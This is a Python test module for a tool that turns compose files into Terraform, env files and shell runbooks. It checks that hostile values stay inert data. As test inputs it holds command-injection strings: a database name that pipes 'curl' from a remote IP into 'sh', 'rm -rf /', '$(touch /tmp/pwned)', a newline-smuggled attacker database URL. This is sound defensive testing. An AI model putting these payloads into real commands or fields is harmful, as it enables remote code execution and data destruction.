"""Hostile values in the Terraform, the runbooks (README.md/MIGRATION.md) and env/<svc>.env come out as data.

Every check parses the output and compares what it reads with what the compose file said:
- .tf: every file through HashiCorp's parser (hcl2json); app_env.tf's `locals` evaluated by `tofu console`
  (`base64encode(jsonencode(local.app_env))`), so the env map Terraform builds is compared value for value;
- shell fences of the runbooks: each line split into words and operators (shlex, POSIX, punctuation_chars) and
  compared with the same line rendered from harmless values: same operators, same number of words, and each
  word equal to the harmless word with the harmless value replaced by the hostile one (one word per value, no
  extra command);
- env files: one assignment per variable, decoded by the documented rule (generator/render/envfiles.py).

Values the runbooks cannot hold on one line (line breaks, control characters) are refused with exit 2 and one
line (C2PError): that is accepted wherever a test says "or refused".
"""

from __future__ import annotations

import base64
import json
import re
import shlex
import subprocess
import unicodedata
from pathlib import Path

import pytest
import yaml

from generator.errors import C2PError
from tests.conftest import require_tool

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
FENCE = re.compile(r"^\s*```(sh|bash|console|shell)\s*$")
EXPR = re.compile(r"(\{\{|\[\[)(.*?)(\}\}|\]\])")
# filters that make a value one shell word (sh), refuse what is not already one (sh_plain, sh_var), or accept only a
# line Python built word by word (sh_line): the last filter of every expression in a shell fence
SHELL_FILTERS = {"sh", "sh_plain", "sh_var", "sh_line"}


# ---- helpers ---------------------------------------------------------------------------------------------------

def _compose_text(doc: dict) -> str:
    """A compose file holding `doc`'s strings exactly: `$` doubled, as compose interpolation reads it back."""
    def esc(v):
        if isinstance(v, str):
            return v.replace("$", "$$")
        if isinstance(v, dict):
            return {esc(k): esc(x) for k, x in v.items()}
        if isinstance(v, list):
            return [esc(x) for x in v]
        return v
    # JSON is YAML without ambiguity (PyYAML writes the string 0o17 plain, which YAML 1.2 reads as the number 15),
    # with the characters YAML reads as line breaks or refuses (NEL, U+2028/9, C1, BOM) escaped as \uXXXX
    text = json.dumps(esc(doc), ensure_ascii=False, indent=1)
    return re.sub("[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]", lambda m: f"\\u{ord(m[0]):04x}", text)


def _plan(tmp_path: Path, doc: dict, target: str):
    from generator.classify import classify
    from generator.load import load_project
    from generator.plan import build_plan

    tmp_path.mkdir(parents=True, exist_ok=True)
    f = tmp_path / "compose.yaml"
    f.write_text(_compose_text(doc), encoding="utf-8")
    project = load_project(files=(str(f),), profiles=(), env_files=(), environ={})
    return build_plan(project, classify(project), target)


def _render(tmp_path: Path, doc: dict, target: str):
    """(plan, tree), or (plan or None, C2PError) when classify, plan or the output refuses a value."""
    from generator.render import render

    try:
        plan = _plan(tmp_path, doc, target)
    except C2PError as exc:  # a database or user name with a line break is refused where it enters
        return None, exc
    try:
        return plan, render(plan)
    except C2PError as exc:
        return plan, exc


def _refused_one_line(exc: C2PError) -> None:
    assert "\n" not in str(exc) and "\r" not in str(exc)


def _terraform_app_env(tmp_path: Path, app_env_tf: str) -> dict:
    """app_env.tf's `locals` block evaluated by Terraform itself."""
    tool = require_tool("tofu")  # the OpenTofu `make tools` installs; a skip (a failure in CI) without it
    block = app_env_tf[app_env_tf.index("locals {"):app_env_tf.index("\nresource ")]
    d = tmp_path / "tfconsole"
    d.mkdir(parents=True, exist_ok=True)
    (d / "main.tf").write_text(block, encoding="utf-8")
    proc = subprocess.run([tool, "console"], input="base64encode(jsonencode(local.app_env))\n", cwd=d, capture_output=True,
                          text=True, timeout=60, env={"PATH": "/usr/bin:/bin", "TF_CLI_CONFIG_FILE": "/dev/null",
                                                      "CHECKPOINT_DISABLE": "1", "HOME": str(d)})
    assert proc.returncode == 0, proc.stderr
    return json.loads(base64.b64decode(json.loads(proc.stdout.strip())).decode("utf-8"))


def _hcl2json(tmp_path: Path, files: dict[str, str]) -> dict[str, dict]:
    from generator.validate.hcl import HclUnavailable, parse_hcl

    d = tmp_path / "tf"
    paths = []
    for rel, text in files.items():
        p = d / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text, encoding="utf-8")
        if rel.endswith(".tf") or rel.endswith(".example"):
            paths.append(p)
    require_tool("hcl2json")  # a skip without it, a failure in CI (C2P_REQUIRE_TOOLS=1)
    try:
        parsed, errors, _ = parse_hcl(paths)
    except HclUnavailable as exc:
        pytest.fail(str(exc))
    assert not errors, errors
    return {str(p.relative_to(d)): v for p, v in parsed.items()}


def _hcl_json_form(value: str) -> str:
    """How hcl2json shows a literal string: HCL's JSON syntax, where `${`/`%{` are escaped again."""
    return value.replace("${", "$${").replace("%{", "%%{")


_ENV_ESC = {"\\": "\\", '"': '"', "$": "$", "`": "`", "n": "\n", "r": "\r", "t": "\t"}


def _decode_env_value(text: str) -> str:
    if not text.startswith('"'):
        assert '"' not in text and "\\" not in text and "$" not in text
        return text
    assert text.endswith('"') and len(text) >= 2, text
    body, out, i = text[1:-1], [], 0
    while i < len(body):
        c = body[i]
        if c == '"':
            raise AssertionError(f"unescaped quote in {text!r}")
        if c != "\\":
            out.append(c)
            i += 1
            continue
        n = body[i + 1]
        if n in _ENV_ESC:
            out.append(_ENV_ESC[n])
            i += 2
        elif n == "u":
            out.append(chr(int(body[i + 2:i + 6], 16)))
            i += 6
        elif n == "U":
            out.append(chr(int(body[i + 2:i + 10], 16)))
            i += 10
        else:
            raise AssertionError(f"unknown escape \\{n} in {text!r}")
    return "".join(out)


def _env_assignments(text: str) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for line in text.split("\n"):
        if not line or line.startswith("#"):
            continue
        name, sep, value = line.partition("=")
        assert sep, f"a line that is neither a comment nor an assignment: {line!r}"
        found.setdefault(name, []).append(_decode_env_value(value))
    return found


def _fences(text: str) -> list[list[str]]:
    out, lines, i = [], text.split("\n"), 0
    while i < len(lines):
        if FENCE.match(lines[i]):
            j = i + 1
            while j < len(lines) and not lines[j].strip().startswith("```"):
                j += 1
            out.append(lines[i + 1:j])
            i = j + 1
        else:
            i += 1
    return out


def _shell_lines(text: str) -> list[list[str]]:
    """Each command line of every shell fence (continuations joined, whole-line comments and heredoc bodies
    dropped), as shlex tokens (words and operators)."""
    result = []
    for fence in _fences(text):
        joined, buf, heredoc = [], "", None
        for line in fence:
            if heredoc is not None:
                if line.strip() == heredoc:
                    heredoc = None
                continue
            m = re.search(r"<<'?(\w+)'?", line)
            if m:
                heredoc = m.group(1)
            if line.rstrip().endswith("\\"):
                buf += line.rstrip()[:-1] + " "
                continue
            joined.append(buf + line)
            buf = ""
        for line in joined:
            if not line.strip() or line.strip().startswith("#"):
                continue
            lex = shlex.shlex(line, posix=True, punctuation_chars=True)
            lex.whitespace_split = True
            lex.commenters = ""
            result.append(list(lex))
    return result


OPERATORS = re.compile(r"^[;&|()<>]+$")


def _assert_same_shell(benign: str, hostile: str, replace: dict[str, str]) -> int:
    """The hostile runbook has the benign one's commands, word for word, with the values replaced; returns how
    many words held a replaced value."""
    a, b = _shell_lines(benign), _shell_lines(hostile)
    assert len(a) == len(b), "the hostile values changed the number of shell lines"
    hits = 0
    for la, lb in zip(a, b):
        assert len(la) == len(lb), f"different words:\n{la}\n{lb}"
        for wa, wb in zip(la, lb):
            want = wa
            for old, new in replace.items():
                want = want.replace(old, new)
            if OPERATORS.match(wa):
                assert wb == wa, f"operator {wa!r} became {wb!r}"
            assert wb == want, f"word {wa!r} became {wb!r}, expected {want!r}"
            hits += want != wa
    return hits


def _values_map(db: str, user: str) -> dict[str, str]:
    """benign → hostile text in a runbook word; inside a quoted SQL identifier ("name") a `"` is doubled, as
    PostgreSQL reads it."""
    return {f'"{DB_BENIGN}"': '"' + db.replace('"', '""') + '"', f'"{USER_BENIGN}"': '"' + user.replace('"', '""') + '"',
            DB_BENIGN: db, USER_BENIGN: user}


def _app_vars(plan, app: str):
    return {v.name: v for a in plan.apps if a.name == app for v in a.env}


# ---- the templates themselves: no expression in a shell fence without a shell filter ---------------------------

def _md_templates():
    return sorted(p for p in TEMPLATES.rglob("*.md.j2"))


def test_every_value_in_a_shell_fence_goes_through_a_shell_filter():
    unfiltered = []
    for path in _md_templates():
        for fence in _fences(path.read_text(encoding="utf-8")):
            for line in fence:
                for m in EXPR.finditer(line):
                    expr = m.group(2)
                    last = expr.rsplit("|", 1)[1].strip().split("(")[0] if "|" in expr else ""
                    if last not in SHELL_FILTERS:
                        unfiltered.append(f"{path.relative_to(TEMPLATES)}: {m.group(0)}")
    assert _md_templates(), "no Markdown templates found"
    assert not unfiltered, "values in shell fences without | sh:\n" + "\n".join(unfiltered)


# ---- escaper units ----------------------------------------------------------------------------------------------

def test_escapers_keep_any_value_on_one_line_and_one_word():
    from generator.render.escape import ESCAPERS, hcl_string, sh_word

    nasty = "a\nb\rc\x0cd\u2028e\u202ef${x}%{y}\"\\"
    assert "\n" not in ESCAPERS["md"](nasty) and "\r" not in ESCAPERS["md"](nasty)
    assert "\u2028" not in ESCAPERS["md"](nasty) and "\x0c" not in ESCAPERS["md"](nasty)
    lit = hcl_string(nasty)
    assert "\n" not in lit and "\x0c" not in lit and "\\f" not in lit and "${x}" not in lit.replace("$${", "")
    assert hcl_string("🚀") == '"🚀"' and hcl_string("\U000e0001") == '"\\U000E0001"'
    assert shlex.split(sh_word("a; b | c $(d) `e` 'f'")) == ["a; b | c $(d) `e` 'f'"]
    with pytest.raises(C2PError):
        sh_word("a\nb")


# ---- the review's inputs ----------------------------------------------------------------------------------------

ENV = {
    "GREETING": "hello\nDATABASE_URL=postgres://attacker.example/x",
    "TPL": "${x} %{ if true }y%{ endif } $${z} %%{w}",
    "QUOTES": "a\"b\\c'd `id` $(id)",
    "EMOJI": "rocket 🚀 form\ffeed\ttab\rcr é \U0001F600 \u2028 end",
    "SH": "$(touch /tmp/pwned) `id`; echo hi | sh; #",
    "SPACES": "  edge  ",
    "HASH": "a #b",
}
DB_BENIGN, USER_BENIGN = "benigndb", "benignuser"
DB_HOSTILE, USER_HOSTILE = "app; curl -s http://203.0.113.7/x | sh; #", "u$(id)`id`'\"; rm -rf / #"


def _doc(db: str, user: str, env: dict[str, str]) -> dict:
    return {
        "name": "hostile",
        "services": {
            "web": {"image": "ghcr.io/acme/web:1.0", "environment": dict(env), "depends_on": ["db"]},
            "db": {"image": "postgres:16",
                   "environment": {"POSTGRES_DB": db, "POSTGRES_USER": user, "POSTGRES_PASSWORD": "pw"},
                   "volumes": ["dbdata:/var/lib/postgresql/data"]},
        },
        "volumes": {"dbdata": None},
    }


@pytest.mark.parametrize("target", ["aws", "k8s"])
def test_runbook_shell_words_are_the_compose_values(tmp_path, target):
    _, benign = _render(tmp_path / "b", _doc(DB_BENIGN, USER_BENIGN, {}), target)
    _, hostile = _render(tmp_path / "h", _doc(DB_HOSTILE, USER_HOSTILE, {}), target)
    assert not isinstance(benign, Exception) and not isinstance(hostile, Exception), hostile
    hits = 0
    for doc in ("MIGRATION.md", "README.md"):
        hits += _assert_same_shell(benign[doc], hostile[doc], _values_map(DB_HOSTILE, USER_HOSTILE))
    assert hits >= 2, "the runbooks no longer print the database/user: the test checks nothing"


@pytest.mark.parametrize("target", ["aws", "k8s"])
def test_a_line_break_in_a_runbook_value_is_refused_in_one_line(tmp_path, target):
    _, out = _render(tmp_path, _doc("app\nrm -rf /", USER_BENIGN, {}), target)
    assert isinstance(out, C2PError)
    _refused_one_line(out)


def test_secret_file_path_is_one_word_in_the_k8s_readme(tmp_path):
    def doc(name):
        (tmp_path / "p").mkdir(parents=True, exist_ok=True)
        (tmp_path / "p" / name).write_text("s3cret", encoding="utf-8")
        return {"name": "hostile",
                "services": {"web": {"image": "ghcr.io/acme/web:1.0", "secrets": ["tok"]}},
                "secrets": {"tok": {"file": f"./{name}"}}}
    benign_name, hostile_name = "benignfile.txt", "t$(touch pwned)`id`; x.txt"
    _, benign = _render(tmp_path / "p", doc(benign_name), "k8s")
    _, hostile = _render(tmp_path / "p", doc(hostile_name), "k8s")
    assert not isinstance(hostile, Exception), hostile
    assert _assert_same_shell(benign["README.md"], hostile["README.md"], {benign_name: hostile_name}) >= 1


def test_aws_terraform_and_env_file_hold_the_values(tmp_path):
    plan, tree = _render(tmp_path, _doc(DB_HOSTILE, USER_HOSTILE, ENV), "aws")
    assert not isinstance(tree, Exception), tree
    parsed = _hcl2json(tmp_path, {k: v for k, v in tree.items() if k.startswith("terraform/")})
    # the RDS instance: username and db_name are the compose strings
    (db,) = parsed["terraform/db.tf"]["resource"]["aws_db_instance"]["db"]
    assert db["username"] == "dbadmin"  # the master is c2p's; the compose user is the apps' role
    assert plan.resource("db").settings["app_role"] == USER_HOSTILE
    assert db["db_name"] == _hcl_json_form(DB_HOSTILE)
    # app_env.tf, evaluated by Terraform: every carried-over value exactly
    env = _terraform_app_env(tmp_path, tree["terraform/app_env.tf"])["web"]
    vars_ = _app_vars(plan, "web")
    checked = 0
    for name, value in ENV.items():
        if vars_[name].secret or vars_[name].override is not None:
            assert name not in env or env[name] != value
            continue
        assert env[name] == value, name
        checked += 1
    assert checked >= 5, "most hostile values became secrets/overrides: the test checks too little"
    # env/web.env: one assignment per variable, decoded to the compose value
    found = _env_assignments(tree["env/web.env"])
    for name, value in ENV.items():
        assert len(found.get(name, [])) == 1, name
        if not vars_[name].secret and vars_[name].override is None:
            assert found[name] == [value], name
    assert "DATABASE_URL" not in found or len(found["DATABASE_URL"]) == 1


def test_hostile_keys_in_app_env_are_string_keys(tmp_path):
    from generator.render.escape import Raw
    from generator.render.jinja import render_template

    apps = [{"name": "w\"${x}", "env": [("a\"b", Raw('"v"')), ("${x}", Raw('"w"')), ("%{ if 1 }", Raw('"z"'))],
             "job": False}]
    text = render_template("terraform/aws/app_env.tf.j2", apps=apps, user_apps=[],
                           checkov_skips={"app_env": {"CKV2_AWS_57": "r"}})
    env = _terraform_app_env(tmp_path, text)
    assert env == {"w\"${x}": {"a\"b": "v", "${x}": "w", "%{ if 1 }": "z"}}


def test_service_name_with_a_newline_gives_terraform_that_parses(tmp_path):
    from generator.targets.aws.render import context, terraform

    doc = _doc(DB_BENIGN, USER_BENIGN, {"A": "x"})
    doc["services"]["db\n"] = doc["services"].pop("db")
    doc["services"]["web"]["depends_on"] = ["db\n"]
    try:
        plan = _plan(tmp_path, doc, "aws")
    except C2PError as exc:  # refused where names are validated: fine
        _refused_one_line(exc)
        return
    files = terraform(plan, context(plan))
    parsed = _hcl2json(tmp_path, files)
    (group,) = parsed["terraform/db_.tf"]["resource"]["aws_db_subnet_group"]["db_"]
    assert group["description"] == "db\n: private subnets of the app VPC"
    assert files["terraform/db_.tf"].startswith("# db\\n: PostgreSQL")
    _, out = _render(tmp_path / "full", doc, "aws")
    assert isinstance(out, C2PError) or "db\n" not in out["MIGRATION.md"]


def test_a_value_terraform_would_normalize_is_said(tmp_path):
    """U+F900 (a CJK compatibility ideograph) and a decomposed é: Terraform stores both in NFC, so the secret differs
    from compose's value; c2p cannot prevent it (cty normalizes every string) and says so."""
    doc = {"name": "nfc", "services": {"web": {"image": "ghcr.io/acme/web:1.0",
                                               "environment": {"TITLE": "\uf900 cafe\u0301", "PLAIN": "caf\u00e9"}}}}
    plan, tree = _render(tmp_path, doc, "aws")
    (warning,) = [w for w in plan.warnings if "NFC" in w]
    assert "TITLE" in warning and "PLAIN" not in warning
    assert _terraform_app_env(tmp_path, tree["terraform/app_env.tf"])["web"]["TITLE"] == "\u8c48 caf\u00e9"


# ---- property test ----------------------------------------------------------------------------------------------

try:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st
except ImportError:  # pragma: no cover
    given = None

if given is not None:
    META = st.sampled_from(list("${}%\"'\\`;|&#\n\r\t\f\x00\x01\x7f\u2028\u202e🚀é ") + ["${", "%{", "$(", "\\u"])
    TEXT = st.lists(st.one_of(st.characters(blacklist_categories=("Cs",)), META), max_size=24).map("".join)
    # one line: what a runbook can hold (TEXT alone would mostly be refused for its control characters)
    ONE_LINE = st.lists(st.one_of(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")),
                                  st.sampled_from(list("${}%\"'\\`;|&#()<> ") + ["$(", "${", "&&", "||"])),
                        min_size=1, max_size=24).map("".join)

    @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
    @given(values=st.lists(TEXT, min_size=1, max_size=4))
    def test_property_app_env_and_env_file_hold_any_value(tmp_path_factory, values):
        values = [v.replace("\x00", "") for v in values]  # NUL: YAML cannot hold it
        env = {f"V{i}": v for i, v in enumerate(values)}
        doc = {"name": "prop", "services": {"web": {"image": "ghcr.io/acme/web:1.0", "environment": env}}}
        tmp = tmp_path_factory.mktemp("p")
        plan, tree = _render(tmp, doc, "aws")
        assert not isinstance(tree, Exception), tree
        vars_ = _app_vars(plan, "web")
        got = _terraform_app_env(tmp, tree["terraform/app_env.tf"])["web"]
        found = _env_assignments(tree["env/web.env"])
        for name, value in env.items():
            assert len(found[name]) == 1
            if vars_[name].secret or vars_[name].override is not None:
                continue
            # Terraform holds strings in NFC (cty): the secret gets that form, and the plan says so
            assert got[name] == unicodedata.normalize("NFC", value)
            assert found[name] == [value]
            assert (got[name] == value) or any(name in w and "NFC" in w for w in plan.warnings), plan.warnings

    @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
    @given(db=st.one_of(ONE_LINE, ONE_LINE, TEXT), user=st.one_of(ONE_LINE, ONE_LINE, TEXT))
    def test_property_runbook_words_are_the_values_or_refused(tmp_path_factory, db, user):
        db, user = db.replace("\x00", ""), user.replace("\x00", "")
        if not db or not user or DB_BENIGN in db + user or USER_BENIGN in db + user:
            return
        tmp = tmp_path_factory.mktemp("r")
        for target in ("aws", "k8s"):
            try:
                _, benign = _render(tmp / f"b{target}", _doc(DB_BENIGN, USER_BENIGN, {}), target)
                _, hostile = _render(tmp / f"h{target}", _doc(db, user, {}), target)
            except C2PError as exc:  # refused at load/plan (name validation)
                _refused_one_line(exc)
                continue
            if isinstance(hostile, C2PError):
                _refused_one_line(hostile)
                continue
            for name in ("MIGRATION.md", "README.md"):
                _assert_same_shell(benign[name], hostile[name], _values_map(db, user))
